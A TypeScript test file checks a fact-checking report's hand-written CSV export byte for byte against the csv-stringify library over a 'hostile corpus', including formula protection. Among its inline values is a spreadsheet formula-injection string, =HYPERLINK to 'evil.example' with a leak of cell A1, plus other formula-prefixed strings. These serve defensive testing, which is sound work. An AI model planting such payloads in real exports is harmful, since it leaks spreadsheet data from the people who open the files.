import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { IMPOSSIBLE_DATES, NON_HTTP_URLS, SQL_METACHARACTERS, UNICODE_EDGE_CASES, XSS_PAYLOADS } from "../../test/hostile-corpus";
import { headerRecord, neutraliseFormula, numberField, textField } from "./csv-fields";
import { CLAIM_CSV_COLUMNS, claimsCsv, EVENT_COLUMNS, eventsCsv } from "./report-csv";
import type { ReportClaim, ReportData } from "./report-model";
import { statusLabel } from "./report-model";

/**
 * The CSV exports used csv-stringify; they now format fields by hand for speed. These tests
 * hold the hand-made bytes to the library's, with the options and the formula protection the
 * library-based writer used, over the hostile corpus.
 */
type Cell = string | number | null;
const LIBRARY_OPTIONS = { record_delimiter: "\r\n", quoted_match: /[\r\n]/ } as const;
const libraryRecords = (rows: Cell[][]) => (rows.length === 0 ? "" : stringify(rows.map((row) => row.map((cell) => (typeof cell === "string" ? neutraliseFormula(cell) : cell))), LIBRARY_OPTIONS));

const HOSTILE: string[] = [
  ...Object.values(XSS_PAYLOADS),
  ...NON_HTTP_URLS,
  ...Object.values(SQL_METACHARACTERS),
  ...Object.values(UNICODE_EDGE_CASES),
  ...IMPOSSIBLE_DATES,
  "",
  " ",
  '"',
  '""',
  'say "no"',
  ",",
  "a,b",
  "\n",
  "\r",
  "\r\n",
  "line one\nline two",
  "ends with CR\r",
  "\rstarts with CR",
  "\tstarts with a tab",
  "=1+2",
  "+1",
  "-1",
  "-",
  "@here",
  "'already quoted",
  "＝fullwidth equals",
  "emoji 😀👍🏽 and 中文，全角逗号",
  "\uD800 lone high, \uDC00 lone low",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")\r\n-2+3,"x"',
  `${"long, \"quoted\"\ntext 长文本 ".repeat(20_000)}`,
];

describe("textField", () => {
  it("writes every hostile value as csv-stringify did, formula protection included", () => {
    for (const value of HOSTILE) expect(textField(value), JSON.stringify(value.slice(0, 60))).toBe(libraryRecords([[value]]).slice(0, -2));
  });

  it("writes a whole record of hostile values as csv-stringify did", () => {
    const record = HOSTILE.map(textField).join(",") + "\r\n";
    expect(record).toBe(libraryRecords([HOSTILE]));
  });

  it("leaves null empty and writes numbers as they are, never prefixed", () => {
    expect(textField(null)).toBe("");
    for (const value of [0, 7, -1, 1.5, 2 ** 53, null]) expect(numberField(value)).toBe(libraryRecords([[value, "x"]]).slice(0, -4));
  });
});

describe("headerRecord", () => {
  it("is the library's header line, names as they are", () => {
    for (const columns of [EVENT_COLUMNS, CLAIM_CSV_COLUMNS, ["a,b", 'say "c"', "=d"]]) {
      expect(`\uFEFF${headerRecord(columns)}`).toBe(stringify([[...columns]], { ...LIBRARY_OPTIONS, bom: true }));
    }
  });
});

/** The writers as they were on csv-stringify: one list of cells per row, stringified per batch. */
function libraryEventsCsv(data: ReportData): string {
  const rows = data.claims.flatMap((claim) =>
    claim.timeline.map((event): Cell[] => [
      claim.id,
      claim.statement,
      claim.claimant,
      claim.claimDate,
      claim.kind,
      event.id,
      event.statusKey,
      statusLabel(data, event.statusKey),
      event.effectiveDate,
      event.effectivePrecision,
      event.recordedAt,
      event.rationale,
      event.correctsEventId,
      event.sources.map((s) => (s.title ? `${s.url} ${s.title}` : s.url)).join(" | "),
    ]),
  );
  return stringify([[...EVENT_COLUMNS]], { ...LIBRARY_OPTIONS, bom: true }) + libraryRecords(rows);
}

function libraryClaimsCsv(data: ReportData): string {
  const rows = data.claims.map((claim): Cell[] => [
    claim.id,
    claim.statement,
    claim.claimant,
    claim.claimDate,
    claim.kind,
    claim.currentStatus,
    claim.statusLabel,
    claim.rating,
    claim.timeline.length,
    claim.timeline.map((e) => e.recordedAt).sort().at(-1) ?? null,
    [...new Set(claim.mentions.map((m) => m.articleTitle))].join(" | "),
    claim.mentions.map((m) => m.exact).join(" | "),
  ]);
  return stringify([[...CLAIM_CSV_COLUMNS]], { ...LIBRARY_OPTIONS, bom: true }) + libraryRecords(rows);
}

/** A report whose every text field takes each hostile value in turn. */
function hostileReport(): ReportData {
  const claims: ReportClaim[] = HOSTILE.map((text, i) => ({
    id: i + 1,
    statement: text,
    claimant: i % 3 === 0 ? null : text,
    claimantType: null,
    claimDate: i % 4 === 0 ? null : text,
    kind: "fact",
    currentStatus: i % 2 ? "false" : text,
    statusLabel: i % 2 ? "False" : text,
    rating: i % 2 ? 1 : null,
    mentions: [
      { mentionId: 2 * i, articleSlug: "a", articleTitle: text, articleUrl: null, exact: text, prefix: "", suffix: "", start: 0, end: 1, anchorState: "anchored" },
      { mentionId: 2 * i + 1, articleSlug: "b", articleTitle: "Second, \"article\"", articleUrl: text, exact: `=${text}`, prefix: text, suffix: text, start: 2, end: 3, anchorState: "orphaned" },
    ],
    timeline:
      i % 5 === 4
        ? []
        : [
            {
              id: 100 + i,
              statusKey: i % 2 ? "false" : text,
              effectiveDate: text,
              effectivePrecision: "day",
              recordedAt: `2024-0${(i % 9) + 1}-01T00:00:00.000Z`,
              rationale: i % 3 === 1 ? null : text,
              correctsEventId: i % 3 === 2 ? i : null,
              authorName: text,
              sources: [
                { url: text, title: i % 2 ? text : null, publisher: null, publishedDate: null, archivedUrl: null },
                { url: "https://s.example/,x", title: "来源 \"一\"", publisher: null, publishedDate: null, archivedUrl: null },
              ],
            },
            { id: 10_000 + i, statusKey: "false", effectiveDate: "2025-01-01", effectivePrecision: "year", recordedAt: "2025-01-02T00:00:00.000Z", rationale: "-1 but fine", correctsEventId: null, authorName: null, sources: [] },
          ],
  }));
  return {
    title: "Hostile",
    scope: { kind: "desk" },
    scopeDescription: "Every published claim on the desk.",
    asOf: null,
    generatedFor: "2025-01-02T00:00:00.000Z",
    articles: [],
    claims,
    statuses: [{ key: "false", labelEn: "False, \"really\"", labelZh: "错误", color: "#a00", icon: "x", resolved: true, ratingValue: 1, retired: false }],
  };
}

describe("the CSV writers", () => {
  it("write the bytes the csv-stringify writers wrote, over the hostile corpus", () => {
    const data = hostileReport();
    expect(eventsCsv(data)).toBe(libraryEventsCsv(data));
    expect(claimsCsv(data)).toBe(libraryClaimsCsv(data));
  });

  it("write an empty report as the header alone, as before", () => {
    const data = { ...hostileReport(), claims: [] };
    expect(eventsCsv(data)).toBe(libraryEventsCsv(data));
    expect(claimsCsv(data)).toBe(libraryClaimsCsv(data));
  });
});
